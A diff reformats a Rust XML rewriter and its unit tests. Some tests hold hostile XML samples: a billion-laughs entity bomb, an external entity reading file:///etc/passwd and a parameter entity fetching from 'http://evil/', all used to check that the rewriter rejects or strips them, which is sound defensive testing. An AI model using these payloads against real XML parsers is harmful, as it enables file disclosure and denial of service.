@@ -65,7 +65,9 @@ pub(super) fn rewrite(bytes: &[u8], limits: &Limits) -> Result<(Vec<u8>, Vec<Rem
                 let resolved = resolve(&reference)?;
                 write_text(&mut out, resolved.encode_utf8(&mut [0; 4]), true)?;
             }
-            Event::CData(_) | Event::GeneralRef(_) => return malformed("text stands outside the root element"),
+            Event::CData(_) | Event::GeneralRef(_) => {
+                return malformed("text stands outside the root element");
+            }
             Event::Comment(_) => note(What::Metadata, "comments".to_owned()),
             Event::PI(instruction) => {
                 let target = instruction.target();
@@ -96,7 +98,8 @@ pub(super) fn rewrite(bytes: &[u8], limits: &Limits) -> Result<(Vec<u8>, Vec<Rem
         return malformed("an element is not closed, or there is none");
     }
     out.push('\n');
-    let removed = removed.into_iter().map(|((what, place), count)| Removed::new(what, &place, count)).collect();
+    let removed =
+        removed.into_iter().map(|((what, place), count)| Removed::new(what, &place, count)).collect();
     Ok((out.into_bytes(), removed))
 }
 
@@ -212,7 +215,8 @@ fn checked_name(name: &str) -> Result<&str, Failure> {
             | '\u{10000}'..='\u{effff}')
     };
     let continues = |c: char| {
-        starts(c) || matches!(c, '-' | '.' | '0'..='9' | '\u{b7}' | '\u{300}'..='\u{36f}' | '\u{203f}' | '\u{2040}')
+        starts(c)
+            || matches!(c, '-' | '.' | '0'..='9' | '\u{b7}' | '\u{300}'..='\u{36f}' | '\u{203f}' | '\u{2040}')
     };
     if name.starts_with(starts) && name.chars().all(continues) {
         return Ok(name);
@@ -246,7 +250,10 @@ mod tests {
     fn data_is_kept() {
         let data = "<a xmlns:n=\"urn:x\" n:b=\"1 &lt; 2 &quot;\">\n\t<c/>é &amp; 'ü' \"q\"<c></c> </a>\n";
         assert_eq!(rewritten(data), (data.to_owned(), vec![]));
-        assert_eq!(rewritten("<a b='x\ty&#10;'>1\r\n2&#13;<![CDATA[<&]]></a>").0, "<a b=\"x y&#xA;\">1\n2&#xD;&lt;&amp;</a>\n");
+        assert_eq!(
+            rewritten("<a b='x\ty&#10;'>1\r\n2&#13;<![CDATA[<&]]></a>").0,
+            "<a b=\"x y&#xA;\">1\n2&#xD;&lt;&amp;</a>\n"
+        );
     }
 
     #[test]
@@ -270,12 +277,18 @@ mod tests {
     fn billion_laughs_is_malformed() {
         let bomb = "<!DOCTYPE a [<!ENTITY b 'ha'><!ENTITY c '&b;&b;&b;'>]><a>&c;</a>";
         assert!(fails(bomb).to_string().contains("entity of its own"));
-        assert!(fails("<!DOCTYPE a [<!ENTITY b 'ha'>]><a x='&b;'/>").to_string().contains("entity of its own"));
+        assert!(
+            fails("<!DOCTYPE a [<!ENTITY b 'ha'>]><a x='&b;'/>").to_string().contains("entity of its own")
+        );
     }
 
     #[test]
     fn external_entity_is_malformed_when_used_and_gone_when_not() {
-        assert!(fails("<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>").to_string().contains("entity"));
+        assert!(
+            fails("<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>")
+                .to_string()
+                .contains("entity")
+        );
         let (out, removed) = rewritten("<!DOCTYPE a [<!ENTITY % b SYSTEM 'http://evil/'> %b;]><a/>");
         assert_eq!((out.as_str(), removed.len()), ("<a/>\n", 1));
     }
@@ -303,10 +316,33 @@ mod tests {
     #[test]
     fn what_is_almost_xml_is_malformed() {
         for text in [
-            "", " ", "<a>", "<a></b>", "<a/><b/>", "<a/>x", "x<a/>", "<a b=1/>", "<a b='1' b='2'/>", "<a b='<'/>", "<a>&</a>",
-            "<a>&#0;</a>", "<a>&#x1F;</a>", "<a>\u{1}</a>", "<a b='&#xFFFE;'/>", "<a>&#+65;</a>", "<1/>", "<a 1=''/>",
-            "<?xml version=\"1.1\"?><a/>", "<a/><?xml version=\"1.0\"?>", " <?xml version=\"1.0\"?><a/>", "<a/><!DOCTYPE a>",
-            "<a/>&amp;", "<![CDATA[x]]><a/>", "<a><!-- -- --></a>", "<a", "<a></a b>",
+            "",
+            " ",
+            "<a>",
+            "<a></b>",
+            "<a/><b/>",
+            "<a/>x",
+            "x<a/>",
+            "<a b=1/>",
+            "<a b='1' b='2'/>",
+            "<a b='<'/>",
+            "<a>&</a>",
+            "<a>&#0;</a>",
+            "<a>&#x1F;</a>",
+            "<a>\u{1}</a>",
+            "<a b='&#xFFFE;'/>",
+            "<a>&#+65;</a>",
+            "<1/>",
+            "<a 1=''/>",
+            "<?xml version=\"1.1\"?><a/>",
+            "<a/><?xml version=\"1.0\"?>",
+            " <?xml version=\"1.0\"?><a/>",
+            "<a/><!DOCTYPE a>",
+            "<a/>&amp;",
+            "<![CDATA[x]]><a/>",
+            "<a><!-- -- --></a>",
+            "<a",
+            "<a></a b>",
         ] {
             assert!(matches!(fails(text), Failure::Malformed(_)), "{text} {:?}", fails(text));
         }
